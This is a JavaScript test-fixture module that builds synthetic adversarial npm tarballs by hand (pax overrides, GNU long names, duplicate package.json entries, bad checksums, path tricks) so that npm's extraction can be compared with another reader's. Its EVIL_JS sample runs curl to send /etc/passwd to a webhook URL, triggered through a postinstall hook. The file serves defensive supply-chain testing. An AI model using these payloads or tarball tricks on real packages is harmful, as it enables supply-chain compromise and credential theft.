'use strict'

// SYNTHETIC adversarial npm tarballs: every header form node-tar accepts and the tricks an
// attacker can play with them (which entry wins a path, what a header means). Each case is
// built byte by byte here; `tarball-diff.test.js` extracts each with npm's own pacote/node-tar
// and compares with prov-native's reader.

const zlib = require('node:zlib')

const BENIGN = JSON.stringify({ name: 'pkg', version: '1.0.0', main: 'index.js' })
const EVIL = JSON.stringify({ name: 'pkg', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node evil.js' } })
const EVIL_JS = "require('child_process').exec('curl -d @/etc/passwd https://webhook.site/x')\n"

// One header block. Numbers are octal text unless given as a Buffer (base-256) or a string
// (written as is); `cksum: false` leaves a wrong checksum.
function header (o) {
  const h = Buffer.alloc(512)
  const put = (off, len, v) => {
    if (v === undefined || v === null) return
    if (Buffer.isBuffer(v)) v.copy(h, off, 0, len)
    else Buffer.from(String(v), 'utf8').copy(h, off, 0, len)
  }
  const num = (off, len, v, dflt) => {
    if (v === undefined) v = dflt
    if (typeof v === 'number') v = v.toString(8).padStart(len - 1, '0') + '\0'
    put(off, len, v)
  }
  put(0, 100, o.name)
  num(100, 8, o.mode, 0o644)
  num(108, 8, o.uid, 0)
  num(116, 8, o.gid, 0)
  num(124, 12, o.size, 0)
  num(136, 12, o.mtime, 0)
  put(156, 1, o.type === undefined ? '0' : o.type)
  put(157, 100, o.linkname)
  put(257, 8, o.magic === undefined ? 'ustar\u000000' : o.magic)
  put(345, 155, o.prefix)
  if (o.raw) for (const [off, v] of Object.entries(o.raw)) put(Number(off), v.length, v)
  h.fill(0x20, 148, 156)
  let sum = 0
  for (const b of h) sum += b
  if (o.cksum === false) sum += 1
  put(148, 8, sum.toString(8).padStart(6, '0') + '\0 ')
  return h
}

function pad (buf) {
  return Buffer.concat([buf, Buffer.alloc((512 - (buf.length % 512)) % 512)])
}

// A file entry: header + padded body. `size` overrides the header's size field.
function file (name, content, o = {}) {
  const body = Buffer.from(content)
  return Buffer.concat([header({ name, size: body.length, ...o }), pad(body)])
}

function paxBody (records) {
  let out = ''
  for (const [k, v] of records) {
    const rest = ` ${k}=${v}\n`
    let n = Buffer.byteLength(rest) + 1
    while (String(n).length + Buffer.byteLength(rest) !== n) n++
    out += n + rest
  }
  return Buffer.from(out)
}

function pax (records, o = {}) {
  const body = Buffer.isBuffer(records) ? records : paxBody(records)
  return Buffer.concat([header({ name: 'PaxHeader/x', type: o.global ? 'g' : 'x', size: body.length, ...o.header }), pad(body)])
}

function longName (path, type = 'L', o = {}) {
  const body = Buffer.from(path + '\0')
  return Buffer.concat([header({ name: '././@LongLink', type, size: body.length, ...o }), pad(body)])
}

const END = Buffer.alloc(1024)

function tar (...parts) {
  return Buffer.concat([...parts, END])
}

const gz = (b, o) => zlib.gzipSync(b, o)

// The cases. `refuse`: the reader must refuse (npm fails, or — `ambiguous` — its view
// depends on how npm reads the file). `error`: an anomaly of severity error is expected.
function corpus () {
  const pj = (c) => file('package/package.json', c)
  const idx = file('package/index.js', 'module.exports = 1\n')
  const evil = file('package/evil.js', EVIL_JS)
  const cases = []
  const add = (name, tgz, expect = {}) => cases.push({ name, tgz, expect })

  add('plain package', gz(tar(pj(BENIGN), idx)))
  add('backslash duplicate: evil then package\\package.json', gz(tar(pj(EVIL), evil, file('package\\package.json', BENIGN), idx)), { error: true })
  add('dot duplicate: evil then ./package/package.json', gz(tar(pj(EVIL), evil, file('./package/package.json', BENIGN), idx)))
  add('dot first: ./package/package.json then package/package.json', gz(tar(file('./package/package.json', EVIL), pj(BENIGN), idx)))
  const sparse = header({ name: 'package/sparse.bin', type: 'S', size: 512, magic: 'ustar  \0', raw: { 482: Buffer.from([1]) } })
  add('GNU sparse entry in the middle', gz(tar(pj(EVIL), sparse, pad(Buffer.from('x'.repeat(512))), evil, idx)))
  add('trailing zero bytes after the gzip stream', Buffer.concat([gz(tar(pj(EVIL), evil)), Buffer.alloc(4096)]))
  add('trailing garbage after the gzip stream', Buffer.concat([gz(tar(pj(BENIGN), idx)), Buffer.from('garbage!')]), { refuse: true })
  const whole = tar(pj(BENIGN), idx, file('package/package.json', EVIL), evil)
  add('two gzip members', Buffer.concat([gz(whole.subarray(0, 1024)), gz(whole.subarray(1024))]))
  add('a gzip member then a zlib member', Buffer.concat([gz(whole.subarray(0, 1024)), zlib.deflateSync(whole.subarray(1024))]))
  add('a member hidden after zero padding', Buffer.concat([gz(tar(pj(BENIGN), idx).subarray(0, 1536)), Buffer.alloc(512), gz(tar(pj(EVIL), evil))]), { refuse: 'ambiguous' })
  add('pax path override', gz(tar(pax([['path', 'package/package.json']]), file('package/readme.txt', EVIL), idx)))
  add('pax size larger than the header says', gz(tar(pj(BENIGN), pax([['size', '600']]), file('package/index.js', 'x'.repeat(600), { size: 10 }), idx)))
  add('pax size smaller than the header says (rest parsed as headers)', gz(tar(pj(BENIGN), pax([['size', '0']]), Buffer.concat([header({ name: 'package/a.js', size: 1024 }), file('package/package.json', EVIL), Buffer.alloc(0)]), idx)))
  add('pax size fractional', gz(tar(pj(BENIGN), pax([['size', '12.5']]), file('package/index.js', 'abcdefghijklmnop'), idx)))
  add('pax size hexadecimal', gz(tar(pj(BENIGN), pax([['size', '0x10']]), file('package/index.js', 'abcdefghijklmnopqrstuvwxyz', { size: 26 }))))
  add('pax size negative is ignored', gz(tar(pj(BENIGN), pax([['size', '-5']]), idx)))
  add('pax record with a wrong length is ignored', gz(tar(pax(Buffer.from('99 path=package/package.json\n')), file('package/readme.txt', EVIL), pj(BENIGN))))
  add('global pax size applies to every later file', gz(tar(pj(BENIGN), pax([['size', '5']], { global: true }), file('package/a.js', 'hello world'), file('package/b.js', 'HELLO WORLD'))))
  add('global pax path is never applied', gz(tar(pax([['path', 'package/package.json']], { global: true }), file('package/readme.txt', EVIL), pj(BENIGN))))
  add('GNU long name', gz(tar(pj(BENIGN), longName('package/' + 'd'.repeat(120) + '/x.js'), file('package/short', EVIL_JS), idx)))
  add('GNU long name for package.json', gz(tar(pj(BENIGN), longName('package/package.json'), file('package/x.txt', EVIL), evil)))
  add('GNU long name cut at NUL', gz(tar(longName('package/package.json\0junk'), file('package/x.txt', EVIL), evil)))
  add('GNU long name then pax (merged)', gz(tar(pj(BENIGN), longName('package/long.js'), pax([['size', '3']]), file('package/other.js', 'abcdef'))))
  add('pax size 0 orphans the next extended header', gz(tar(pj(BENIGN), pax([['size', '0']]), pax([['path', 'package/package.json']]), file('package/index.js', 'x'))))
  add('extended header over 1 MiB by its pax size is skipped', gz(tar(pj(BENIGN), pax([['size', String(2 * 1024 * 1024)]]), pax([['path', 'package/package.json']]), file('package/readme.txt', EVIL), evil)))
  add('ustar prefix', gz(tar(pj(BENIGN), header({ name: 'index.js', prefix: 'package/lib', size: 3 }), pad(Buffer.from('abc')))))
  add('GNU magic: prefix area is not a prefix', gz(tar(pj(BENIGN), header({ name: 'package/x.js', magic: 'ustar  \0', prefix: 'package/evil', size: 3 }), pad(Buffer.from('abc')))))
  add('a file with a trailing slash is a directory; its body is parsed', gz(tar(pj(BENIGN), Buffer.concat([header({ name: 'package/x/', size: 1024 }), file('package/package.json', EVIL)]), evil)))
  add('bad checksum: the block is skipped, its body parsed as headers', gz(tar(pj(BENIGN), Buffer.concat([header({ name: 'package/x.js', size: 1024, cksum: false }), file('package/package.json', EVIL)]), evil)))
  add('invalid base-256 mode makes the header invalid', gz(tar(pj(BENIGN), Buffer.concat([header({ name: 'package/x.js', size: 1024, mode: Buffer.from([0x81, 0, 0, 0, 0, 0, 0, 1]) }), file('package/package.json', EVIL)]))))
  add('base-256 size', gz(tar(pj(BENIGN), Buffer.concat([header({ name: 'package/a.js', size: Buffer.from([0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5]) }), pad(Buffer.from('hello'))]))))
  add('unknown type flag: skipped with its body', gz(tar(pj(BENIGN), file('package/x.js', EVIL_JS, { type: 'Z' }), idx)))
  add('contiguous file type', gz(tar(pj(BENIGN), file('package/c.js', 'contiguous', { type: '7' }))))
  add('hard link and symlink entries are dropped', gz(tar(pj(BENIGN), header({ name: 'package/l.js', type: '2', linkname: '/etc/passwd' }), header({ name: 'package/h.js', type: '1', linkname: 'package/package.json' }), idx)))
  add('one null block is not the end', gz(tar(pj(BENIGN), Buffer.alloc(512), file('package/package.json', EVIL), evil)))
  add('after two null blocks nothing is read', gz(Buffer.concat([tar(pj(BENIGN), idx), file('package/package.json', EVIL), END])))
  add('absolute path lands inside the package', gz(tar(pj(BENIGN), file('/etc/cron.x.js', 'x'), file('package//abs.js', 'y'))))
  add('dot-dot components are dropped', gz(tar(pj(BENIGN), file('package/../escape.js', 'x'), file('package/a\\..\\b.js', 'y'), idx)))
  add('UNC-like root is stripped into package.json', gz(tar(pj(BENIGN), file('package/\\\\srv\\share\\package.json', EVIL), evil)), { error: true })
  add('drive letter root is stripped (on every platform)', gz(tar(pj(BENIGN), file('package/C:package.json', EVIL), evil)))
  add('case variant of package.json', gz(tar(pj(BENIGN), file('package/PACKAGE.JSON', EVIL), idx)), { error: true })
  add('case variant of a script', gz(tar(pj(BENIGN), idx, file('package/INDEX.js', EVIL_JS))), { error: true })
  add('duplicate package.json: the later wins', gz(tar(pj(BENIGN), idx, pj(EVIL), evil)))
  add('a file blocks a later file under it', gz(tar(pj(BENIGN), file('package/lib', 'x'), file('package/lib/index.js', EVIL_JS))))
  add('a directory blocks a later file at its path', gz(tar(pj(BENIGN), file('package/lib/index.js', 'ok'), file('package/lib', EVIL_JS))))
  add('.gitignore renamed, and dropped after a .npmignore', gz(tar(pj(BENIGN), file('package/.gitignore', 'a'), file('package/sub/.npmignore', 'b'), file('package/sub/.gitignore', 'c'))))
  add('other first components', gz(tar(file('node/package.json', BENIGN), file('x/index.js', 'x'), file('package.json', EVIL))))
  add('over 1,024 components is skipped', gz(tar(pj(BENIGN), pax([['path', 'package/' + 'a/'.repeat(1100) + 'x.js']]), file('package/short.js', 'x'))))
  add('pax link path escaping the package skips the file', gz(tar(pj(BENIGN), pax([['linkpath', '../../x']]), file('package/index.js', EVIL_JS))))
  add('uncompressed tar', tar(pj(EVIL), evil))
  add('truncated inside a body', gz(tar(pj(BENIGN), idx).subarray(0, 512 + 100)), { refuse: true })
  add('truncated inside a header (a partial block is ignored)', gz(tar(pj(BENIGN), idx).subarray(0, 1024 + 100)))
  add('decompression ratio over 1000', gz(tar(pj(BENIGN), file('package/zeros.bin', Buffer.alloc(8 << 20))), { level: 9 }), { refuse: true })
  const h = gz(tar(pj(BENIGN), idx))
  const flags = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0x1c, 0, 0, 0, 0, 0, 3, 2, 0, 0x41, 0x42]), Buffer.from('name\0comment\0'), h.subarray(10)])
  add('gzip header with extra, name and comment', flags)
  add('non-ASCII pax path', gz(tar(pj(BENIGN), pax([['path', 'package/é.js']]), file('package/x', 'x'))))
  add('no valid entry at all', gz(Buffer.concat([header({ name: 'package/a.js', cksum: false }), END])), { refuse: true })
  add('link name on a file entry is forbidden', gz(tar(pj(BENIGN), file('package/package.json', EVIL, { linkname: 'x' }), idx)))
  add('NUL then newline in a name keeps the rest (npm throws on the NUL bytes left)', gz(tar(pj(BENIGN), file('package/x\0\n.js', 'x'))), { refuse: true })
  add('NUL then newline in a full name field: the cut leaves no NUL', gz(tar(pj(BENIGN), header({ name: 'package/y\0\n' + 'a'.repeat(89) }))))
  add('zstd magic', Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.alloc(100)]), { refuse: 'ambiguous' })
  return cases
}

module.exports = { corpus, header, file, pax, longName, tar, gz, pad, BENIGN, EVIL, EVIL_JS }
